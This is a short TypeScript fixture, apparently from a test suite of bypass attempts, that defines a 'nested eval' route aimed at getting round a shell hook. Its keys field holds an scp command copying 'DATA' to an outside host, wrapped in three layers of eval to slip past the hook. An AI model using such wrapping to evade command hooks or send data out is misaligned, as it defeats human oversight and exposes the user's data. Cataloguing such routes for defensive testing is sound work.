import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'nested eval',
  source: 'attempts to get round a hook of the shell',
  keys: ['eval "eval \\"eval \'scp DATA host:\'\\""\r'],
};
